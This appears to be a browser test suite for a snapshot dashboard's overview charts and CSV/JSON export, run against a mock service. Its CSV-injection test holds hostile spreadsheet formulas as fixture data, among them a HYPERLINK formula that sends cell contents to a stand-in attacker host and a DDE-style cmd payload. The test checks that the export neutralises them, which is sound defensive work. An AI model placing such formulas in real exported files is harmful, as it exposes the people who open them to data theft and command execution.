// The dashboard's "Overview and export" in headless Chromium against the
// mock EVS service: two mocks, the seed (264 snapshots, one page of 1,000)
// and 20,000 snapshots (20 pages). Expected figures are computed here from
// the mock's data (tests/mock-evs/data.mjs), never from the page; exported
// CSV files are read back by Python's csv module.
//
//   node --test tests/browser/overview.test.mjs
//   UPDATE_SCREENSHOTS=1 node --test tests/browser/overview.test.mjs   # also rewrites docs/overview.png
import { test } from 'node:test';
import { before } from '../helpers/hooks.mjs';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { dirname, join } from 'node:path';
import { SNAPSHOTS, PROJECT_ID, VOLUMES, wireSnapshots } from '../mock-evs/data.mjs';
import { normalizeSnapshot, sortWire } from '../helpers/reference.mjs';
import { useChromium } from '../helpers/browser.mjs';
import { useMock } from '../helpers/mock.mjs';
import { dashboardMock } from '../helpers/dashboard.mjs';
import { owaspCell, FORMULA_START } from '../helpers/csv.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const OUT = join(root, 'test-output');
const DOCS_SHOT = join(root, 'docs', 'overview.png');
const BIG = 20_000;
/** The seed and the 20,000, as the package returns them, in the mock's list order. */
const SEED = sortWire(SNAPSHOTS).map(normalizeSnapshot);
const MANY = sortWire(wireSnapshots(BIG)).map(normalizeSnapshot);
const T = 15_000; // the bound on any single wait

const seed = useMock(dashboardMock(), { each: 'reset' });
const big = useMock(dashboardMock({ count: BIG }), { each: 'reset' });
const browser = useChromium();

before(() => {
  mkdirSync(OUT, { recursive: true });
});

// ----------------------------------------------------------------- helpers

async function open(mock, query = '', { width = 1280, height = 900, init } = {}) {
  const page = await browser.newPage({ timezoneId: 'Asia/Shanghai', viewport: { width, height } });
  page.setDefaultTimeout(T);
  // Live progress off: its refreshes of the table would be list requests too.
  await page.addInitScript(() => localStorage.setItem('evs-dashboard:live', 'off'));
  if (init) await page.addInitScript(init);
  await page.goto(`${mock.url}/${query}`);
  await page.waitForFunction(() => Number(document.body.dataset.loads || 0) > 0 && document.body.dataset.state !== 'loading');
  return page;
}

const walkState = (page) => page.evaluate(() => document.querySelector('#walk').dataset.state);

/** Waits until the walk is no longer running; returns its state. */
async function settled(page) {
  await page.waitForFunction(() => document.querySelector('#walk').dataset.state !== 'running', null, { timeout: 60_000 });
  return walkState(page);
}

/** Clicks an export button and saves the file it downloads. */
async function exportFile(page, which, path) {
  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), page.click(`[data-testid="export-${which}"]`)]);
  await download.saveAs(path);
  assert.equal(await settled(page), 'done');
  return download.suggestedFilename();
}

function listRequests(mock) {
  return mock.requests().filter((r) => r.kind === 'api' && r.path.endsWith('/snapshots'));
}

/** `good` list requests answer, then the next page fails every attempt (the package makes three). */
function failAfter(mock, good, status, error) {
  mock.setFaults([
    { match: { op: 'list' }, times: good },
    { match: { op: 'list' }, times: 3, status, json: { error } },
  ]);
}

const markerOf = (r) => new URLSearchParams(r.query).get('marker');

/** The markers a walk of `list` in pages of 1,000 asks for: none, then each page's last ID. */
function pageMarkers(list) {
  const out = [null];
  for (let i = 1000; i <= list.length; i += 1000) out.push(list[i - 1].id);
  return out;
}

/** Per status / per volume: { count, gb }, computed here. */
function tally(list, key) {
  const out = {};
  for (const s of list) {
    const t = (out[s[key]] ??= { count: 0, gb: 0 });
    t.count += 1;
    t.gb += s.size;
  }
  return out;
}

/** The Monday (UTC) of each snapshot's week → how many were created in it. */
function perWeek(list) {
  const out = {};
  for (const s of list) {
    const d = new Date(s.createdAt);
    const monday = new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth(), d.getUTCDate() - ((d.getUTCDay() + 6) % 7)));
    const key = monday.toISOString().slice(0, 10);
    out[key] = (out[key] ?? 0) + 1;
  }
  return out;
}

async function overviewFigures(page) {
  return page.evaluate(() => {
    const rows = (id) => [...document.querySelectorAll(`[data-testid="${id}"]`)].map((r) => ({ ...r.dataset }));
    return {
      statuses: Object.fromEntries(rows('overview-status-row').map((r) => [r.status, { count: +r.count, gb: +r.gb }])),
      volumes: rows('overview-volume-row').map((r) => ({ volumeId: r.volume, count: +r.count, gb: +r.gb })),
      weeks: Object.fromEntries(rows('overview-week-row').map((r) => [r.week, +r.count])),
    };
  });
}

function assertOverview(figures, list, label) {
  assert.ok(list.length > 0, label);
  assert.deepEqual(figures.statuses, tally(list, 'status'), `${label}: per status`);
  const top = Object.entries(tally(list, 'volumeId'))
    .map(([volumeId, t]) => ({ volumeId, ...t }))
    .sort((a, b) => b.gb - a.gb || b.count - a.count || (a.volumeId < b.volumeId ? -1 : 1))
    .slice(0, 10);
  assert.deepEqual(figures.volumes, top, `${label}: top volumes`);
  assert.deepEqual(figures.weeks, perWeek(list), `${label}: per week`);
}

/** Python's csv module reads the file (BOM removed by utf-8-sig) and prints its records as JSON. */
function readCsvWithPython(path) {
  const script = 'import csv, json, sys\nwith open(sys.argv[1], newline="", encoding="utf-8-sig") as f:\n    json.dump(list(csv.reader(f, strict=True)), sys.stdout)';
  return JSON.parse(execFileSync('python3', ['-c', script, path], { maxBuffer: 256 * 1024 * 1024 }).toString('utf8'));
}

/**
 * OWASP's CSV-injection rule, as the export must apply it: a cell that
 * begins with =, +, -, @, TAB or CR gets a ' before it (tests/helpers/csv.mjs).
 */
const neutral = owaspCell;

function assertCsvEquals(path, list) {
  const bytes = readFileSync(path);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');
  assert.ok(bytes.subarray(3, 200).toString('utf8').startsWith('id,name,'), 'no second BOM');
  assert.equal(bytes.subarray(-2).toString('latin1'), '\r\n', 'CRLF after the last record');
  const [header, ...records] = readCsvWithPython(path);
  assert.deepEqual(header, ['id', 'name', 'description', 'status', 'size_gb', 'volume_id', 'created_at', 'updated_at', 'metadata']);
  assert.equal(records.length, list.length);
  records.forEach((r, i) => {
    const s = list[i];
    const want = [s.id, s.name, s.description ?? '', s.status, String(s.size), s.volumeId, s.createdAt ?? '', s.updatedAt ?? ''].map(neutral);
    assert.deepEqual(r.slice(0, 8), want, `record ${i}`);
    assert.deepEqual(JSON.parse(r[8]), s.metadata, `record ${i}: metadata`);
    assert.equal(r[8], neutral(r[8]), `record ${i}: metadata is a JSON object, never formula-like`);
  });
}

async function closePage(page) {
  const errors = page.errors.filter((e) => !/Failed to load resource/.test(e));
  await page.close();
  assert.deepEqual(errors, [], 'no console errors or page errors');
}

// ------------------------------------------------------------------- tests

test('the overview: per-status counts and GB, top volumes and weeks equal the mock data, with and without filters', async () => {
  const page = await open(seed);
  assert.match(await page.textContent('[data-testid="walk-scope"]'), /every snapshot of the project/);
  seed.clearRequests();
  await page.click('[data-testid="overview-start"]');
  assert.equal(await settled(page), 'done');
  assertOverview(await overviewFigures(page), SEED, 'no filters');
  const q = new URLSearchParams(listRequests(seed).at(-1).query);
  assert.equal(q.get('limit'), '1000');
  assert.equal(listRequests(seed).length, 1, 'one page of 1,000 holds the seed');
  assert.match(await page.textContent('[data-testid="overview-summary"]'), new RegExp(`^${SEED.length} snapshots · ${new Intl.NumberFormat('en-US').format(SEED.reduce((a, s) => a + s.size, 0))} GB`));
  assert.match(await page.textContent('[data-testid="walk-status"]'), /Overview of 264 snapshots built/);
  // Visible direct values: the status chart's text carries each count.
  const chartText = await page.textContent('[data-testid="overview-status"] svg');
  for (const [, t] of Object.entries(tally(SEED, 'status'))) assert.ok(chartText.includes(`${t.count}`));
  // A text alternative for each chart: a spoken summary and a table.
  for (const name of ['status', 'volumes', 'weeks']) {
    const svg = page.locator(`[data-testid="overview-${name}"] svg`);
    assert.equal(await svg.getAttribute('role'), 'img');
    assert.ok((await svg.getAttribute('aria-label')).length > 40, name);
    assert.equal(await page.locator(`[data-testid="overview-${name}"] table`).count(), 1);
  }
  assert.match(await page.getAttribute('[data-testid="overview-status"] svg', 'aria-label'), new RegExp(`Available: ${tally(SEED, 'status').available.count} snapshots`));

  // The README screenshot: the overview at 1280 px.
  await page.evaluate(() => document.activeElement?.blur());
  const shot = await page.locator('#walk').screenshot({ path: join(OUT, 'overview.png'), animations: 'disabled' });
  if (!existsSync(DOCS_SHOT) || process.env.UPDATE_SCREENSHOTS) writeFileSync(DOCS_SHOT, shot);

  // Filters from the URL: a volume and a status; the walk sends them.
  const vol = VOLUMES[3];
  const filtered = await open(seed, `?volume_id=${vol}&status=available`);
  assert.match(await filtered.textContent('[data-testid="walk-scope"]'), /status available, volume/);
  seed.clearRequests();
  await filtered.click('[data-testid="overview-start"]');
  assert.equal(await settled(filtered), 'done');
  assertOverview(await overviewFigures(filtered), SEED.filter((s) => s.volumeId === vol && s.status === 'available'), 'volume and status');
  const fq = new URLSearchParams(listRequests(seed).at(-1).query);
  assert.deepEqual([fq.get('limit'), fq.get('volume_id'), fq.get('status')], ['1000', vol, 'available']);
  await closePage(filtered);

  // A filter nothing matches: no chart, a sentence.
  const none = await open(seed, '?name=no-such-name');
  await none.click('[data-testid="overview-start"]');
  assert.equal(await settled(none), 'done');
  assert.match(await none.textContent('[data-testid="overview-empty"]'), /No snapshot matches/);
  await closePage(none);
  await closePage(page);
});

test('readable at 390 px: no sideways scrolling, charts as wide as the screen allows', async () => {
  const page = await open(seed, '', { width: 390, height: 844 });
  await page.click('[data-testid="overview-start"]');
  assert.equal(await settled(page), 'done');
  assert.ok((await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)) <= 0);
  for (const name of ['status', 'volumes', 'weeks']) {
    const box = await page.locator(`[data-testid="overview-${name}"] svg`).boundingBox();
    assert.ok(box.width > 300 && box.x + box.width <= 390, `${name}: ${JSON.stringify(box)}`);
  }
  // Text keeps its size: a status label is at least 11 px tall on screen.
  const label = await page.locator('[data-testid="overview-status"] svg text.label').first().boundingBox();
  assert.ok(label.height >= 11, `${label.height}px`);
  await page.locator('#walk').screenshot({ path: join(OUT, 'overview-390.png'), animations: 'disabled' });
  await closePage(page);
});

test('Cancel, by keyboard, in the middle of a walk: the in-flight request is aborted and no further request is sent', async () => {
  const page = await open(big);
  const aborted = [];
  page.on('requestfailed', (r) => {
    if (/\/snapshots\?/.test(r.url())) aborted.push(r.url());
  });
  assert.equal(await page.evaluate(() => document.body.dataset.live), 'off', 'no refreshes of the table');
  big.clearRequests();
  // Two pages answer at once; the third is held for 3 s, then all answer at once.
  big.setFaults([
    { match: { op: 'list' }, times: 2 },
    { match: { op: 'list' }, times: 1, delayMs: 3000 },
  ]);
  await page.focus('[data-testid="overview-start"]');
  await page.keyboard.press('Enter');
  assert.equal(await page.evaluate(() => document.activeElement.dataset.testid), 'walk-cancel', 'Cancel has the focus');
  assert.ok(await page.isVisible('[data-testid="walk-progress"]'));
  assert.equal(await page.getAttribute('[data-testid="walk-bar"]', 'role'), 'progressbar');
  // Two pages read, the third asked for and held by the mock.
  await page.waitForFunction(() => Number(document.querySelector('#walk').dataset.received) >= 2000);
  const deadline = Date.now() + T;
  while (listRequests(big).length < 3 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 5));
  assert.equal(listRequests(big).length, 3);
  assert.match(await page.textContent('[data-testid="walk-count"]'), /^2,000 snapshots read so far$/);
  await page.keyboard.press('Enter');
  assert.equal(await settled(page), 'cancelled');
  const sent = big.requests().length;
  await page.waitForTimeout(3500); // past the hold: had the walk gone on, the next pages would come at once
  assert.equal(big.requests().length, sent, 'the request count stopped growing');
  assert.equal(sent, 3);
  assert.equal(aborted.length, 1, 'the third page was aborted in flight');
  assert.equal(new URL(aborted[0]).searchParams.get('marker'), MANY[1999].id);
  assert.match(await page.textContent('[data-testid="walk-status"]'), /Cancelled after 2,000 snapshots/);
  assert.ok(await page.isHidden('[data-testid="overview"]'));
  assert.ok(await page.isHidden('[data-testid="walk-progress"]'));
  assert.equal(await page.evaluate(() => document.activeElement.dataset.testid), 'overview-start', 'focus back on the button');
  big.clearFaults();
  await closePage(page);
});

test('CSV and JSON exports of the whole seed equal the mock data, field by field; file names carry project, filters and time', async () => {
  const page = await open(seed);
  const csvPath = join(OUT, 'export-seed.csv');
  const before = Date.now();
  const csvName = await exportFile(page, 'csv', csvPath);
  assert.match(csvName, new RegExp(`^evs-snapshots_${PROJECT_ID}_all_\\d{8}T\\d{6}Z\\.csv$`));
  const stamp = csvName.match(/_(\d{8}T\d{6}Z)\./)[1];
  const at = Date.parse(stamp.replace(/^(\d{4})(\d\d)(\d\d)T(\d\d)(\d\d)(\d\d)Z$/, '$1-$2-$3T$4:$5:$6Z'));
  assert.ok(at >= Math.floor(before / 1000) * 1000 && at <= Date.now(), 'the time of the export, in UTC');
  assertCsvEquals(csvPath, SEED);
  // The names a CSV has to quote are in there.
  for (const re of [/,/, /"/, /\n/, /\r\n/, /\p{Script=Han}/u]) assert.ok(SEED.some((s) => re.test(s.name)), String(re));
  assert.match(await page.textContent('[data-testid="walk-status"]'), new RegExp(`Exported 264 snapshots to ${csvName.replace(/\./g, '\\.')}`));

  const jsonPath = join(OUT, 'export-seed.json');
  const jsonName = await exportFile(page, 'json', jsonPath);
  assert.match(jsonName, /^evs-snapshots_.*_all_\d{8}T\d{6}Z\.json$/);
  assert.deepEqual(JSON.parse(readFileSync(jsonPath, 'utf8')), SEED);

  // With filters: only the matching snapshots; the file name says which.
  const name = '第一行\n第二行';
  const filtered = await open(seed, `?status=available&name=${encodeURIComponent(name)}`);
  const want = SEED.filter((s) => s.status === 'available' && s.name === name);
  assert.ok(want.length > 0);
  const fPath = join(OUT, 'export-filtered.csv');
  const fName = await exportFile(filtered, 'csv', fPath);
  assert.match(fName, new RegExp(`^evs-snapshots_${PROJECT_ID}_status-available_name-第一行-第二行_\\d{8}T\\d{6}Z\\.csv$`));
  assertCsvEquals(fPath, want);
  const empty = await open(seed, '?name=no-such-name');
  const ePath = join(OUT, 'export-empty.json');
  await exportFile(empty, 'json', ePath);
  assert.deepEqual(JSON.parse(readFileSync(ePath, 'utf8')), []);
  await closePage(empty);
  await closePage(filtered);
  await closePage(page);
});

test('CSV injection: formula-like names, descriptions, IDs and metadata are written with a leading quote, and read back so', async () => {
  const base = SNAPSHOTS[0];
  const formulas = [
    { id: '=1+2-snap', name: '=HYPERLINK("https://evil.example/?"&A1,"details")', description: '+SUM(1,2)', volume_id: '@volume', metadata: { note: '=HYPERLINK("https://evil.example")' } },
    { id: '-dash-id', name: '-2+3', description: '\t=cmd|calc', volume_id: '-vol', metadata: { '=k': '+v' } },
    { id: '@at-id', name: '@SUM(A1:A9)', description: '\r=1+1', volume_id: '=vol', metadata: {} },
    { id: 'plain-id', name: 'a=b, not a formula', description: 'x-y', volume_id: 'vol-1', metadata: {} },
  ].map((f, i) => ({ ...base, ...f, created_at: `2026-01-0${i + 1}T00:00:00.000000`, updated_at: null }));
  const want = formulas.map(normalizeSnapshot);
  const page = await open(seed);
  seed.setFaults([{ match: { op: 'list' }, times: 1, status: 200, json: { snapshots: formulas } }]);
  const path = join(OUT, 'export-formulas.csv');
  await exportFile(page, 'csv', path);
  assertCsvEquals(path, want);
  // Python reads the quote back as part of the value, and nothing else changed.
  const [, ...records] = readCsvWithPython(path);
  assert.deepEqual(records.map((r) => r[0]), ["'=1+2-snap", "'-dash-id", "'@at-id", 'plain-id']);
  assert.deepEqual(records.map((r) => r[1]), [`'${formulas[0].name}`, "'-2+3", "'@SUM(A1:A9)", 'a=b, not a formula']);
  assert.deepEqual(records.map((r) => r[2]), ["'+SUM(1,2)", "'\t=cmd|calc", "'\r=1+1", 'x-y']);
  assert.deepEqual(records.map((r) => r[5]), ["'@volume", "'-vol", "'=vol", 'vol-1']);
  assert.deepEqual(JSON.parse(records[0][8]), { note: '=HYPERLINK("https://evil.example")' });
  // No cell of the file begins with a formula character.
  for (const r of records) for (const cell of r) assert.doesNotMatch(cell, FORMULA_START, cell);
  // The JSON export keeps the values as the service sent them.
  seed.setFaults([{ match: { op: 'list' }, times: 1, status: 200, json: { snapshots: formulas } }]);
  const jsonPath = join(OUT, 'export-formulas.json');
  await exportFile(page, 'json', jsonPath);
  assert.deepEqual(JSON.parse(readFileSync(jsonPath, 'utf8')), want);
  await closePage(page);
});

test('a 500 in the middle of a walk: the banner with the request ID; Retry goes on from the page after the last good one', async () => {
  const page = await open(big);
  const failures = [];
  page.on('response', (r) => {
    if (/\/snapshots\?/.test(r.url()) && r.status() === 500) failures.push(r.headers()['x-request-id']);
  });
  big.clearRequests();
  failAfter(big, 3, 500, { message: 'the disk service is down', code: 'EVS.9999' });
  await page.click('[data-testid="overview-start"]');
  assert.equal(await settled(page), 'error');
  assert.ok(await page.isVisible('[data-testid="walk-error"]'));
  assert.equal(await page.textContent('[data-testid="walk-error-kind"]'), 'http');
  assert.equal(await page.textContent('[data-testid="walk-error-status"]'), '500');
  assert.equal(await page.textContent('[data-testid="walk-error-code"]'), 'EVS.9999');
  assert.match(await page.textContent('[data-testid="walk-error-message"]'), /the disk service is down/);
  assert.equal(failures.length, 3);
  assert.equal(await page.textContent('[data-testid="walk-error-request-id"]'), failures.at(-1));
  assert.equal(await page.evaluate(() => document.activeElement.dataset.testid), 'walk-retry', 'Retry has the focus');
  assert.equal(await page.getAttribute('#walk', 'data-received'), '3000');
  const pages = pageMarkers(MANY); // 21 requests: 20 full pages, then the empty one after the last
  assert.equal(pages.length, 21);
  assert.deepEqual(listRequests(big).map(markerOf), [...pages.slice(0, 4), pages[3], pages[3]]);
  await page.screenshot({ path: join(OUT, 'overview-error.png'), animations: 'disabled' });

  await page.click('[data-testid="walk-retry"]');
  assert.equal(await settled(page), 'done');
  assert.ok(await page.isHidden('[data-testid="walk-error"]'));
  // Each good page once: the failed one again, then the rest.
  assert.deepEqual(listRequests(big).map(markerOf), [...pages.slice(0, 4), pages[3], pages[3], ...pages.slice(3)]);
  assertOverview(await overviewFigures(page), MANY, '20,000 after a retry');

  // The same for an export: the file holds every snapshot once.
  big.clearRequests();
  failAfter(big, 1, 503, { message: 'busy', code: 'EVS.0503' });
  await page.click('[data-testid="export-json"]');
  assert.equal(await settled(page), 'error');
  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), page.click('[data-testid="walk-retry"]')]);
  const path = join(OUT, 'export-retry.json');
  await download.saveAs(path);
  assert.equal(await settled(page), 'done');
  assert.deepEqual(JSON.parse(readFileSync(path, 'utf8')).map((s) => s.id), MANY.map((s) => s.id));
  assert.deepEqual(listRequests(big).map(markerOf), [pages[0], pages[1], pages[1], pages[1], ...pages.slice(1)]);
  await closePage(page);
});

test('a 20,000-snapshot CSV export keeps the page responsive (longest task < 200 ms) and equals the mock data', async (t) => {
  const page = await open(big, '', {
    init: () => {
      window.__longTasks = [];
      new PerformanceObserver((list) => {
        for (const e of list.getEntries()) window.__longTasks.push({ start: e.startTime, duration: e.duration });
      }).observe({ type: 'longtask', buffered: true });
    },
  });
  // The observer sees long tasks: a 120 ms busy loop is one.
  await page.evaluate(() =>
    setTimeout(() => {
      const end = performance.now() + 120;
      while (performance.now() < end);
    }, 0),
  );
  await page.waitForFunction(() => window.__longTasks.some((x) => x.duration >= 100));
  big.clearRequests();
  const t0 = await page.evaluate(() => performance.now());
  const started = Date.now();
  const path = join(OUT, 'export-20000.csv');
  const name = await exportFile(page, 'csv', path);
  const ms = Date.now() - started;
  await page.waitForTimeout(100); // let the observer deliver the last entries
  const tasks = await page.evaluate((from) => window.__longTasks.filter((x) => x.start >= from), t0);
  const longest = Math.max(0, ...tasks.map((x) => x.duration));
  t.diagnostic(`20,000-snapshot CSV export: ${ms} ms, ${tasks.length} long tasks, the longest ${Math.round(longest)} ms`);
  assert.ok(longest < 200, `longest main-thread task ${longest} ms`);
  assert.match(name, /_all_\d{8}T\d{6}Z\.csv$/);
  assert.equal(listRequests(big).length, 21);
  assertCsvEquals(path, MANY);
  await closePage(page);
});
